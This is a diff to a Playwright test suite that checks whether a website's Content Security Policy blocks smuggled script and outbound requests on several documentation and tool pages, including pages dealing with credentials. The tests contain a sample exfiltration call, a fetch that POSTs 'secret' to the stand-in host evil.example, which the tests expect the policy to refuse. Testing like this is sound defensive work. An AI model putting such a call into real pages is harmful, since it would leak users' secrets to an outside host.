@@ -40,7 +40,7 @@ test('every file of the site that is a page carries the policy of its group, bef
 test.describe('what somebody smuggles into a page', () => {
   test.use({provoked: /Content Security Policy|evil\.example/i});
 
-  for (const pathname of ['/guide/', '/zh/tool/', '/guide/api/']) {
+  for (const pathname of ['/guide/', '/zh/tool/', '/guide/api/fs']) {
     test(`does not run at ${pathname}`, async ({page}) => {
       await open(page, `${originOf('own')}${pathname}`);
       const refused = await page.evaluate(async () => {
@@ -91,22 +91,30 @@ test.describe('what somebody smuggles into a page', () => {
     });
   }
 
-  test('sends nothing from a page for credentials', async ({page}) => {
-    await open(page, `${originOf('own')}/tool/dropbox/request`);
-    const outcome = await page.evaluate(async () =>
-      fetch('https://evil.example/', {method: 'POST', body: 'secret'}).then(
-        () => 'sent',
-        () => 'refused',
-      ),
-    );
-    expect(outcome).toBe('refused');
-  });
+  for (const pathname of [
+    '/tool/dropbox/request',
+    '/guide/api/authentication',
+    '/zh/guide/api/admin/',
+  ]) {
+    test(`sends nothing from ${pathname}, where no route is tried`, async ({
+      page,
+    }) => {
+      await open(page, `${originOf('own')}${pathname}`);
+      const outcome = await page.evaluate(async () =>
+        fetch('https://evil.example/', {method: 'POST', body: 'secret'}).then(
+          () => 'sent',
+          () => 'refused',
+        ),
+      );
+      expect(outcome).toBe('refused');
+    });
+  }
 });
 
 test('search violates no policy, also on pages for credentials', async ({
   page,
 }) => {
-  for (const pathname of ['/tool/', '/zh/guide/api/', '/tool/server/']) {
+  for (const pathname of ['/tool/', '/zh/guide/api/fs.html', '/tool/server/']) {
     await open(page, `${originOf('own')}${pathname}`);
     await page.evaluate(() => {
       document.addEventListener('securitypolicyviolation', (event) => {
